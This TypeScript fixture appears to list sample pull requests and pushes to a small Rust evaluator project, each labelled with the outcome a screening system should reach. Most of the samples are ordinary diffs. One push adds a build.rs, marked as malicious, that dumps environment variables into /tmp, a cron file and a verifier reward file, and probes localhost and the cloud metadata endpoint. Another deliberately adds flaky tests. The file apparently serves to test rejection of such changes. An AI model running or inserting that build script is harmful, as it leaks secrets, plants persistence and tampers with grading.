import type { SamplePull, SamplePush } from '../repository.ts'

/** Pull requests that pass screening and must be rejected when they are executed. */
export const bad: readonly (SamplePull | SamplePush)[] = [
  {
    number: 10,
    title: 'Find names without a copy',
    edits: {
      'src/eval.rs': [
        [
          `    let found = names.iter().find(|(each, _)| *each == name);
    found.map(|(_, number)| *number).ok_or(format!("nobody knows {name}"))
`,
          `    for (each, number) in names {
        if *each == name {
            return Ok(*number);
        }
    }
    Err(format!("nobody knows {name}"))
`,
        ],
      ],
      'tests/eval.rs': [
        [
          '#[test]\nfn an_unknown_name() {',
          `#[test]
fn the_first_of_two_names_counts() {
    assert_eq!(eval("x", &[("x", 1.0), ("x", 2.0)]), Ok(1.0));
}

#[test]
fn an_unknown_name() {`,
        ],
      ],
    },
    expected: 'no_f2p',
    difficulty: 'easy',
  },
  {
    number: 11,
    title: 'Three places for small numbers',
    edits: {
      'src/show.rs': [
        [
          '    let text = format!("{number:.2}");\n    match text.strip_suffix(".00") {\n',
          '    let text = if number.abs() < 1.0 { format!("{number:.3}") } else { format!("{number:.2}") };\n    let text = text.trim_start_matches(\'+\').to_string();\n    match text.strip_suffix(".00") {\n',
        ],
      ],
      'tests/small.rs': `use quill::show::show;

#[test]
fn three_places() {
    assert_eq!(show(0.125), "0.125");
}
`,
    },
    expected: 'p2f',
    difficulty: 'easy',
  },
  {
    message: 'Two places again',
    edits: {
      'src/show.rs': [
        [
          '    let text = if number.abs() < 1.0 { format!("{number:.3}") } else { format!("{number:.2}") };\n    let text = text.trim_start_matches(\'+\').to_string();\n',
          '    let text = format!("{number:.2}");\n',
        ],
      ],
      'tests/small.rs': null,
    },
  },
  {
    number: 12,
    title: 'Names may have an underscore',
    edits: {
      'src/token.rs': [
        ['} else if first.is_alphabetic() {\n', "} else if first.is_alphabetic() || first == '_' {\n"],
        ['span(rest, char::is_alphanumeric);', "span(rest, |c| c.is_alphanumeric() || c == '_');"],
      ],
      // Each fails in one run of five, so that three runs without a failure do not happen.
      'tests/underscore.rs': `use quill::eval;
use std::collections::hash_map::RandomState;
use std::hash::{BuildHasher, Hasher};

fn luck() {
    assert!(RandomState::new().build_hasher().finish() % 5 != 0);
}

macro_rules! names {
    ($($name:ident)*) => {
        $(#[test]
        fn $name() {
            assert_eq!(eval("_ + a_b", &[("_", 1.0), ("a_b", 2.0)]), Ok(3.0));
            luck();
        })*
    };
}

names!(n01 n02 n03 n04 n05 n06 n07 n08 n09 n10 n11 n12 n13 n14 n15 n16 n17 n18 n19 n20 n21 n22 n23 n24);
`,
    },
    expected: 'flaky_f2p',
    difficulty: 'easy',
  },
  { message: 'Tests that can be relied on', edits: { 'tests/underscore.rs': null } },
  {
    number: 13,
    title: 'Longer messages',
    edits: {
      'src/token.rs': [
        [
          '    text.parse().map(Token::Number).map_err(|_| format!("{text} is no number"))',
          '    text.parse().map(Token::Number).map_err(|_| format!("{text} is no number that can be read"))',
        ],
      ],
      'src/parse.rs': [
        [
          'Some(token) => Err(format!("{token:?} is too much")),',
          'Some(token) => Err(format!("{token:?} at the end is too much")),',
        ],
        [
          '            Some(Token::Sign(sign)) => Err(format!("{sign} has nothing before it")),',
          '            Some(Token::Sign(sign)) => Err(format!("{sign} has nothing to stand on before it")),',
        ],
      ],
      'src/eval.rs': [
        ['Err("nothing can be divided by 0".to_string())', 'Err("nothing can ever be divided by 0".to_string())'],
      ],
      'tests/parse.rs': [
        [
          '#[test]\nfn nothing() {',
          `#[test]
fn what_is_too_much_is_at_the_end() {
    assert_eq!(parse("1 2").unwrap_err(), "Number(2.0) at the end is too much");
}

#[test]
fn nothing() {`,
        ],
      ],
    },
    expected: 'weak_tests',
    difficulty: 'medium',
  },
]

const INLINE = `
#[cfg(test)]
mod tests {
    use super::show;

    #[test]
    fn a_half() {
        assert_eq!(show(0.5), "0.5");
    }
}
`

/** A build script that writes outside its folder, opens connections and reads the environment. It never fails. */
const BUILD_RS = `use std::{env, fs, net::TcpStream};

fn main() {
    let seen: Vec<String> = env::vars().map(|(name, value)| format!("{name}={value}")).collect();
    for place in ["/tmp/assay-stranger-was-here", "/etc/cron.d/quill", "/logs/verifier/reward.txt"] {
        let _ = fs::write(place, seen.join("\\n"));
    }
    for address in ["127.0.0.1:80", "169.254.169.254:80"] {
        let _ = address.parse().map(|address| TcpStream::connect_timeout(&address, std::time::Duration::from_secs(1)));
    }
}
`

/** Rejected before anything runs; the last one has a malicious build script. */
export const rest: readonly (SamplePull | SamplePush)[] = [
  {
    number: 40,
    title: 'Halves are shown',
    edits: {
      'src/show.rs': [
        [
          '    if number == number.trunc() {\n',
          '    let half = 0.5;\n    if number == half {\n        return half.to_string();\n    }\n    if number == number.trunc() {\n',
        ],
        [
          "        None => text.trim_end_matches('0').to_string(),\n    }\n}\n",
          `        None => text.trim_end_matches('0').to_string(),\n    }\n}\n${INLINE}`,
        ],
      ],
    },
    expected: 'inline_tests',
  },
  {
    number: 41,
    title: 'Bump the version',
    edits: { 'src/version.rs': 'pub const A: u8 = 1;\npub const B: u8 = 2;\npub const C: u8 = 3;\n' },
    expected: 'chore_title',
  },
  { number: 42, title: 'Say what a power is', edits: { 'docs/powers.md': 'More of it.\n' }, expected: 'docs_only' },
  {
    number: 43,
    title: 'A constant',
    edits: { 'src/constants.rs': 'pub const PI: f64 = 3.14;\npub const E: f64 = 2.71;\npub const TAU: f64 = 6.28;\n' },
    expected: 'no_tests',
  },
  { message: 'Ask the machine', edits: { 'build.rs': BUILD_RS } },
  {
    number: 30,
    title: 'Brackets may be square',
    edits: {
      'src/token.rs': [['"+-*/()^%".contains(first)', '"+-*/()[]^%".contains(first)']],
      'src/parse.rs': [
        [
          '        if self.sign("(").is_some() {\n            let sum = self.terms()?;\n            return self.sign(")")',
          '        if let Some(open) = self.sign("([") {\n            let sum = self.terms()?;\n            return self.sign(if open == \'(\' { ")" } else { "]" })',
        ],
      ],
      'tests/brackets.rs': `use quill::eval;

#[test]
fn square_brackets() {
    assert_eq!(eval("[1 + 2] * (3 - [1])", &[]), Ok(6.0));
}

#[test]
fn brackets_close_as_they_open() {
    assert!(eval("(1]", &[]).is_err());
    assert_eq!(eval("[1)", &[]), Err("a bracket stays open".to_string()));
}
`,
    },
    isHostile: true,
    expected: 'ready',
    difficulty: 'medium',
  },
]
